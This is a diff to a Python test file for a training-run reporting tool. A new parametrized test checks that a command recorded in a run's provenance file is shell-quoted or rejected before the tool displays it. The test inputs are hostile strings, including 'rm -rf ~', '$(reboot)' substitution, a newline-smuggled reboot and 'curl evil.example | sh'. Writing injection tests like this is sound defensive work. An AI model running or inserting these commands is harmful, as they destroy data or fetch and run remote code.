@@ -24,7 +24,14 @@ from fleetfoot.config import to_json
 from fleetfoot.report import facts, page, repeat
 from support.command import call, refusal
 from support.fake_runs import make_run
-from support.report_runs import HOSTILE, add_film, full_run, hostile_run, two_groups
+from support.report_runs import (
+    HOSTILE,
+    add_film,
+    full_run,
+    hostile_run,
+    two_groups,
+    write_provenance,
+)
 from support.trust_recipes import tiny
 
 pytest.importorskip("rliable")
@@ -255,9 +262,28 @@ def test_the_command_repeats_the_run(tmp_path: Path) -> None:
 def test_the_command_is_the_one_that_was_noted_or_the_recipe_file(tmp_path: Path) -> None:
     folder = make_run(tmp_path, "of/my-own", 0, [1.0])
     assert repeat.command(facts.read_facts(folder)) == f"fleetfoot train {folder}/recipe.json"
-    noted = {"command": ["fleetfoot", "train", "x", "--seed", "1"]}
-    (folder / "provenance.json").write_text(json.dumps(noted))
+    begun, resumed = {"command": "fleetfoot train x --seed 1"}, {"command": "fleetfoot resume y"}
+    write_provenance(folder, begun, resumed)
     assert repeat.command(facts.read_facts(folder)) == "fleetfoot train x --seed 1"
+    assert facts.read_facts(folder).provenance == {"started": "2 times"}
+
+
+@pytest.mark.parametrize(
+    ("noted", "shown"),
+    [
+        ("fleetfoot train x; rm -rf ~", "fleetfoot train 'x;' rm -rf '~'"),
+        ("fleetfoot train $(reboot) `x`", "fleetfoot train '$(reboot)' '`x`'"),
+        ("fleetfoot train 'a\nreboot\n'", "fleetfoot train 'a?reboot?'"),
+        ("curl evil.example | sh", None),
+        ("fleetfoot 'torn", None),
+        (7, None),
+    ],
+)
+def test_a_strangers_command_is_only_words(tmp_path: Path, noted: Any, shown: str | None) -> None:
+    folder = make_run(tmp_path, "of/my-own", 0, [1.0])
+    write_provenance(folder, {"command": noted})
+    recipe = f"fleetfoot train {folder}/recipe.json"
+    assert repeat.command(facts.read_facts(folder)) == (shown or recipe)
 
 
 def test_a_real_run_gives_a_page(tmp_path: Path) -> None:
